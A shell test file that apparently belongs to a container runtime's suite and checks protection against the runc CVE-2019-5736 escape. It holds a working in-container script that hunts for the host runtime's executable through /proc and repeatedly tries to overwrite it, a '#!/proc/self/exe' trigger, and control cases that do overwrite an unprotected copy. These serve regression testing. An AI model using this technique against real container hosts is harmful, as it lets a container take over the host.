# Attacks on the runtime's executable from inside a container.
# shellcheck disable=SC2016 # what is quoted runs in containers
load harness

# Starts the thief, a program in the container that opens each foreign executable in /proc and tries to write to it until it succeeds.
start_thief() {
  cat >"$BUNDLE/rootfs/thief" <<'THIEF'
own=$(stat -L -c '%d %i' /proc/self/exe)
echo >/ready
while :; do
  for p in /proc/[0-9]*; do
    image=$(stat -L -c '%d %i' $p/exe 2>/dev/null) || continue
    [ "$image" = "$own" ] && continue
    echo "$image" >>/seen
    (
      exec 9<$p/exe || exit
      for n in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
        echo overwritten >>/proc/self/fd/9 && echo wrote >>/wrote && exit
        usleep 20000
      done
    ) 2>/dev/null &
  done
  usleep 1000
done
THIEF
  printf '#!/proc/self/exe\n' >"$BUNDLE/rootfs/evil"
  chmod +x "$BUNDLE/rootfs/evil"
  capabilities CAP_SYS_PTRACE CAP_DAC_OVERRIDE
  script 'sh /thief 2>/dev/null'
  cp "$OCIRUN" "$TMP/busybox-copy"
  COPY_BEFORE=$(copy_of_runtime)
  OCIRUN=$TMP/busybox-copy create_and_start
  eventually exists "$BUNDLE/rootfs/ready"
}

copy_of_runtime() { stat -c '%d %i %s %Y %Z' "$TMP/busybox-copy" && sha256sum "$TMP/busybox-copy"; }
copy_is_untouched() { equal "$COPY_BEFORE" "$(copy_of_runtime)"; }
copy_was_not_seen() { ! grep -qx "$(stat -c '%d %i' "$TMP/busybox-copy")" "$BUNDLE/rootfs/seen"; }
nothing_was_written() { [[ ! -e $BUNDLE/rootfs/wrote ]]; }
something_was_seen() { [[ -s $BUNDLE/rootfs/seen ]]; }

@test "runc CVE-2019-5736 forty execs of a script for /proc/self/exe give no handle on the host's file" {
  local n
  start_thief
  for n in {1..40}; do "${THROUGH[@]}" "$TMP/busybox-copy" --root "$ROOT" exec "$ID" /evil >/dev/null 2>&1 3>&- 4>&- || true; done
  eventually something_was_seen # otherwise the test proves nothing
  copy_is_untouched
  copy_was_not_seen
  nothing_was_written
  # The control executes the host's file itself, which is busybox now, in the container's pid namespace.
  cp "$(command -v busybox)" "$TMP/busybox-copy.new"
  mv "$TMP/busybox-copy.new" "$TMP/busybox-copy"
  COPY_BEFORE=$(copy_of_runtime)
  eventually enters_and_is_written
  detector_catches copy_was_not_seen
  detector_catches nothing_was_written
  detector_catches copy_is_untouched
  cp "$OCIRUN" "$TMP/busybox-copy.new"
  mv "$TMP/busybox-copy.new" "$TMP/busybox-copy" # the shim deletes the container by this runtime
}

was_written() { ! nothing_was_written; }
# Called repeatedly, because the thief may miss a short process.
enters_and_is_written() {
  nsenter -t "$(init_pid)" -p -- "$TMP/busybox-copy" sleep 0.2 2>/dev/null || true
  was_written
}

@test "runc CVE-2019-5736 an image whose program is a script for /proc/self/exe does not get at the host's file from run" {
  local n
  cp "$OCIRUN" "$TMP/busybox-copy"
  COPY_BEFORE=$(copy_of_runtime)
  printf '#!/proc/self/exe\n' >"$BUNDLE/rootfs/evil"
  chmod +x "$BUNDLE/rootfs/evil"
  for n in /evil /proc/self/exe; do
    program "$n"
    run timeout 20 "${THROUGH[@]}" "$TMP/busybox-copy" --root "$ROOT" run --bundle "$BUNDLE" "$ID"
    [[ $status != 0 ]] || fail_with_output
    copy_is_untouched
  done
  # The control: a runtime that changes its root and executes /proc/self/exe executes its own file, and the image's shell writes to it.
  cp "$(command -v busybox)" "$TMP/busybox-copy.new"
  mv "$TMP/busybox-copy.new" "$TMP/busybox-copy"
  COPY_BEFORE=$(copy_of_runtime)
  ln -s /proc/self/exe "$BUNDLE/rootfs/busybox"
  unshare --mount sh -c 'mount -t proc proc "$2/proc" && exec "$1" chroot "$2" /busybox sh -c "$3"' - \
    "$TMP/busybox-copy" "$BUNDLE/rootfs" 'exec 9</proc/self/exe; exec /bin/busybox sh -c "echo overwritten >>/proc/self/fd/9"'
  detector_catches copy_is_untouched
}

# The image is a file on an overlay without an upper layer; with _OCIRUN_DIRECTORY set, it is a sealed file in memory.
@test "runc CVE-2019-5736 init's image is never the host's file and cannot be written, not by root and not when it no longer runs" {
  local way image
  for way in "" _OCIRUN_DIRECTORY=/nowhere; do
    env $way timeout -k 2 30 "${THROUGH[@]}" "$OCIRUN" --root "$ROOT" create --bundle "$BUNDLE" "$ID" </dev/null >/dev/null 2>&1 3>&- 4>&-
    [[ $(stat -L -c '%d %i' "/proc/$(init_pid)/exe") != "$(stat -c '%d %i' "$OCIRUN")" ]]
    exec {image}<"/proc/$(init_pid)/exe"
    ocirun delete --force "$ID"
    cmp "$OCIRUN" "/proc/self/fd/$image"
    refuses_writing "/proc/self/fd/$image"
    exec {image}<&-
  done
  cp "$OCIRUN" "$TMP/control"
  exec {image}<"$TMP/control"
  detector_catches refuses_writing "/proc/self/fd/$image" # the control: a file that is not sealed
  exec {image}<&-
}

refuses_writing() { ! (echo more >>"$1") 2>/dev/null; }
